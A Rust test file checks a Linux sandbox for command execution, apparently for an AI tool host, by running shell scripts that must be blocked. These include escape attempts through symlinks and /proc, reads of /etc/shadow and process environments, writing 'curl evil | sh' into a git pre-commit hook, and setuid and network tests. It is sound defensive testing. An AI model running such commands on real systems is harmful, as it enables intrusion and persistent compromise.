//! The sandbox against real processes on this kernel. Nothing is skipped: a machine that cannot
//! sandbox fails these tests and says why.

#![cfg(target_os = "linux")]

use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use sandbox::{Layout, Sandbox, SandboxSettings, Support};
use tool_core::sandbox::{NetworkAccess, ReadAccess, SandboxPolicy};

struct Box_ {
    _dir: tempfile::TempDir,
    root: PathBuf,
    work: PathBuf,
    outside: PathBuf,
}

impl Box_ {
    fn new() -> Self {
        let support = Support::probe();
        assert!(
            support.landlock_abi.is_some_and(|abi| abi >= 6) && support.seccomp,
            "this machine cannot sandbox commands ({support}); the sandbox needs Landlock ABI 6 and seccomp"
        );
        let dir = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(dir.path()).unwrap();
        let work = root.join("work");
        let outside = root.join("outside");
        fs::create_dir_all(&work).unwrap();
        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join("secret.txt"), "outside secret\n").unwrap();
        Self { _dir: dir, root, work, outside }
    }

    fn layout(&self) -> Layout {
        Layout { working_directory: self.work.clone(), temp_directory: None, output_files: vec![] }
    }

    /// Runs `script` under `policy` in the working directory: (exit code, stdout + stderr).
    fn run(&self, policy: &SandboxPolicy, script: &str) -> (i32, String) {
        let prepared = Sandbox::new(SandboxSettings::default()).prepare(policy, &self.layout()).unwrap();
        let mut command = Command::new("/bin/bash");
        command.args(["-c", script]).current_dir(&self.work).env("OUT", &self.outside);
        prepared.install(&mut command);
        let output = command.output().unwrap();
        let text =
            format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        (output.status.code().unwrap_or(-1), text)
    }

    fn ok(&self, policy: &SandboxPolicy, script: &str) -> String {
        let (code, text) = self.run(policy, script);
        assert_eq!(code, 0, "`{script}` should succeed, printed: {text}");
        text
    }

    fn denied(&self, policy: &SandboxPolicy, script: &str) -> String {
        let (code, text) = self.run(policy, script);
        assert_ne!(code, 0, "`{script}` should be denied, printed: {text}");
        text
    }
}

fn write() -> SandboxPolicy {
    SandboxPolicy::workspace_write()
}

#[test]
fn writes_inside_the_working_directory_succeed() {
    let b = Box_::new();
    b.ok(&write(), "echo inside > a.txt && mkdir -p sub/deeper && echo x > sub/deeper/b && mv a.txt c.txt && rm sub/deeper/b");
    assert_eq!(fs::read_to_string(b.work.join("c.txt")).unwrap(), "inside\n");
    b.ok(&write(), "echo fine > /dev/null && cat /dev/null && head -c 4 /dev/urandom | wc -c");
}

#[test]
fn writes_outside_fail_by_every_road() {
    let b = Box_::new();
    let out = b.outside.display().to_string();
    std::os::unix::fs::symlink(&b.outside, b.work.join("link")).unwrap();
    for script in [
        format!("echo x > {out}/new.txt"),
        format!("echo x >> {out}/secret.txt"),
        "echo x > link/via-symlink.txt".to_owned(),
        "echo x > ../outside/via-dotdot.txt".to_owned(),
        format!("echo x > /proc/self/root{out}/via-proc.txt"),
        format!("ln {out}/secret.txt hard-link"),
        format!("mv {out}/secret.txt stolen.txt"),
        format!("rm {out}/secret.txt"),
        format!("truncate -s 0 {out}/secret.txt"),
        format!("mkdir {out}/made"),
        "touch /etc/toolhost-sandbox-test".to_owned(),
    ] {
        let text = b.denied(&write(), &script);
        assert!(
            [
                "Permission denied",
                "Operation not permitted",
                "Invalid cross-device link",
                "Read-only file system"
            ]
            .iter()
            .any(|refusal| text.contains(refusal)),
            "`{script}` printed: {text}"
        );
    }
    assert_eq!(fs::read_to_string(b.outside.join("secret.txt")).unwrap(), "outside secret\n");
    assert_eq!(fs::read_dir(&b.outside).unwrap().count(), 1, "nothing was made outside");
}

#[test]
fn children_and_grandchildren_inherit_the_box() {
    let b = Box_::new();
    let out = b.outside.display().to_string();
    b.denied(&write(), &format!("bash -c 'sh -c \"echo x > {out}/grandchild.txt\"'"));
    b.denied(&write(), &format!("(sleep 0.1; echo x > {out}/background.txt) & wait $!"));
    b.denied(&write(), &format!("setsid sh -c 'echo x > {out}/setsid.txt'"));
    assert_eq!(fs::read_dir(&b.outside).unwrap().count(), 1);
}

#[test]
fn read_only_writes_nowhere_but_reads() {
    let b = Box_::new();
    let policy = SandboxPolicy::read_only();
    b.denied(&policy, "echo x > inside.txt");
    assert!(!b.work.join("inside.txt").exists());
    let text = b.ok(&policy, &format!("cat {}/secret.txt && echo ok > /dev/null", b.outside.display()));
    assert!(text.contains("outside secret"));
}

#[test]
fn denied_paths_cannot_be_read() {
    let b = Box_::new();
    let policy = SandboxPolicy { deny_read: vec![b.outside.clone()], ..write() };
    let out = b.outside.display();
    b.denied(&policy, &format!("cat {out}/secret.txt"));
    b.denied(&policy, &format!("ls {out}"));
    b.denied(&policy, "cat /etc/shadow");
    // Everything else still reads.
    b.ok(&policy, "cat /etc/passwd > /dev/null && ls /usr/bin > /dev/null");
}

#[test]
fn confined_reads_see_only_the_system_and_the_session() {
    let b = Box_::new();
    let policy = write().with_reads(ReadAccess::Confined);
    b.ok(&policy, "echo mine > own.txt && cat own.txt && ls /usr/bin > /dev/null && cat /etc/hostname /etc/passwd > /dev/null");
    b.denied(&policy, &format!("cat {}/secret.txt", b.outside.display()));
    b.denied(&policy, &format!("ls {}", b.root.display()));
    b.denied(&policy, "ls /root");
    b.denied(&policy, "ls /tmp");
}

#[test]
fn the_network_is_off_unless_turned_on() {
    let b = Box_::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let text = b.denied(&write(), &connect);
    assert!(text.contains("Permission denied"), "{text}");
    b.denied(&write(), "exec 3<>/dev/udp/127.0.0.1/53");
    let text = b.ok(&write().with_network(NetworkAccess::On), &connect);
    assert!(text.contains("connected"));
    // Unix sockets (local IPC) still work with the network off.
    let text = b.ok(
        &write(),
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"sock\"); print(\"unix ok\")'",
    );
    assert!(text.contains("unix ok"), "{text}");
}

#[test]
fn privileges_are_dropped_and_setuid_gains_nothing() {
    let b = Box_::new();
    // A setuid copy of cat, owned by whoever runs the tests (root in CI).
    let cat = b.work.join("suid-cat");
    fs::copy("/bin/cat", &cat).unwrap();
    fs::set_permissions(&cat, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
    let status = b.ok(&write(), "./suid-cat /proc/self/status");
    let field = |name: &str| {
        status.lines().find_map(|line| line.strip_prefix(name)).map(str::trim).unwrap_or_default().to_owned()
    };
    assert_eq!(field("NoNewPrivs:"), "1", "{status}");
    assert_eq!(field("CapEff:"), "0000000000000000", "{status}");
    assert_eq!(field("CapPrm:"), "0000000000000000", "{status}");
    assert_eq!(field("CapBnd:"), if is_root() { "0000000000000000".to_owned() } else { field("CapBnd:") });
    assert_ne!(field("Seccomp:"), "0", "{status}");
}

#[test]
fn processes_outside_the_box_are_out_of_reach() {
    let b = Box_::new();
    let mut outside = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = outside.id();
    let text = b.denied(&write(), &format!("kill -9 {pid}"));
    assert!(text.contains("Operation not permitted"), "{text}");
    b.denied(&write(), &format!("cat /proc/{pid}/environ"));
    b.denied(&write(), "unshare -r true");
    assert!(outside.try_wait().unwrap().is_none(), "the outside process survived");
    outside.kill().unwrap();
    outside.wait().unwrap();
    // Inside its own box a command still manages its own children.
    b.ok(&write(), "sleep 30 & kill $! && wait $! ; true");
}

#[test]
fn off_runs_unboxed() {
    let b = Box_::new();
    b.ok(&SandboxPolicy::off(), &format!("echo x > {}/allowed.txt", b.outside.display()));
    assert!(b.outside.join("allowed.txt").exists());
}

fn is_root() -> bool {
    Path::new("/proc/self/status").exists()
        && fs::read_to_string("/proc/self/status")
            .unwrap()
            .lines()
            .any(|line| line.starts_with("Uid:") && line.split_whitespace().nth(2) == Some("0"))
}

#[test]
fn a_repositorys_hooks_and_config_stay_read_only_inside_the_workspace() {
    let b = Box_::new();
    for folder in [".git/hooks", ".git/objects", ".toolhost"] {
        fs::create_dir_all(b.work.join(folder)).unwrap();
    }
    fs::write(b.work.join(".git/config"), "[core]\n").unwrap();
    for script in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
        "echo 'allow = [\"*\"]' > .toolhost/config.toml",
        "rm -rf .git/hooks",
        "mv .git/config .git/config.old",
    ] {
        let text = b.denied(&write(), script);
        assert!(
            text.contains("Read-only file system") || text.contains("Device or resource busy"),
            "`{script}` printed: {text}"
        );
    }
    assert_eq!(fs::read_to_string(b.work.join(".git/config")).unwrap(), "[core]\n");
    assert!(!b.work.join(".git/hooks/pre-commit").exists());
    // The rest of the repository and the folder stay writable.
    b.ok(&write(), "echo blob > .git/objects/ab && echo ok > src.txt && mkdir -p more && echo x > more/y");
    // The read-only binds live only in the command's own mount namespace.
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains(&b.work.join(".git/hooks").display().to_string()), "nothing leaked to the host");
}

#[test]
fn an_output_file_is_granted_by_descriptor_not_by_its_path() {
    use std::os::fd::AsRawFd;
    let b = Box_::new();
    // The command's output file, whose path is then swapped for a link to a file outside.
    let spill_path = b.work.join("run.log");
    let spill = fs::File::create(&spill_path).unwrap();
    fs::rename(&spill_path, b.work.join("run.log.moved")).unwrap();
    let target = b.outside.join("secret.txt");
    std::os::unix::fs::symlink(&target, &spill_path).unwrap();

    let layout = Layout { output_files: vec![spill.as_raw_fd()], ..b.layout() };
    let prepared =
        Sandbox::new(SandboxSettings::default()).prepare(&SandboxPolicy::read_only(), &layout).unwrap();
    let mut command = Command::new("/bin/bash");
    let script = format!("echo through-stdout > /dev/stdout; echo pwned > {}", target.display());
    command.args(["-c", &script]).current_dir(&b.work).stdout(spill.try_clone().unwrap());
    prepared.install(&mut command);
    let status = command.status().unwrap();
    assert!(!status.success(), "the write to the link's target was denied");
    assert_eq!(fs::read_to_string(&target).unwrap(), "outside secret\n");
    assert_eq!(fs::read_to_string(b.work.join("run.log.moved")).unwrap(), "through-stdout\n");
}

#[test]
fn the_servers_own_port_stays_closed_with_the_network_on() {
    let b = Box_::new();
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let (blocked, open) = (server.local_addr().unwrap().port(), other.local_addr().unwrap().port());
    let policy = SandboxPolicy { blocked_ports: vec![blocked], ..write().with_network(NetworkAccess::On) };
    let started = std::time::Instant::now();
    let text = b.denied(&policy, &format!("exec 3<>/dev/tcp/127.0.0.1/{blocked}"));
    eprintln!("first command with a blocked port: {:?}", started.elapsed());
    assert!(text.contains("Permission denied"), "{text}");
    b.denied(&policy, &format!("exec 3<>/dev/tcp/localhost/{blocked}"));
    let text = b.ok(&policy, &format!("exec 3<>/dev/tcp/127.0.0.1/{open} && echo connected"));
    assert!(text.contains("connected"));
}

#[test]
fn attributes_outside_the_writable_folders_cannot_change() {
    use std::os::unix::fs::PermissionsExt;
    let b = Box_::new();
    let secret = b.outside.join("secret.txt");
    let before = fs::metadata(&secret).unwrap();
    for script in [
        format!("chmod 777 {}", secret.display()),
        format!("chmod u+s {}", secret.display()),
        format!("touch -d 2001-01-01 {}", secret.display()),
        format!("chown 0:0 {}", secret.display()),
    ] {
        let text = b.denied(&write(), &script);
        assert!(text.contains("Read-only file system"), "`{script}` printed: {text}");
    }
    let after = fs::metadata(&secret).unwrap();
    assert_eq!(after.permissions().mode(), before.permissions().mode());
    assert_eq!(after.modified().unwrap(), before.modified().unwrap());
    // Inside, attributes are the command's to change.
    b.ok(&write(), "echo '#!/bin/sh' > run.sh && chmod +x run.sh && ./run.sh && touch -d 2001-01-01 run.sh");
}

#[test]
fn a_repository_cannot_be_moved_out_from_under_its_read_only_hooks() {
    let b = Box_::new();
    fs::create_dir_all(b.work.join(".git/hooks")).unwrap();
    fs::write(b.work.join(".git/config"), "[core]\n").unwrap();
    let text = b.denied(&write(), "mv .git .g");
    assert!(text.contains("busy") || text.contains("Busy"), "{text}");
    b.denied(&write(), "mv .git/hooks .git/old-hooks");
    assert!(b.work.join(".git/hooks").is_dir());
    // The repository itself stays writable: git writes objects, refs and its index.
    b.ok(&write(), "mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd && echo ref > .git/HEAD");
}
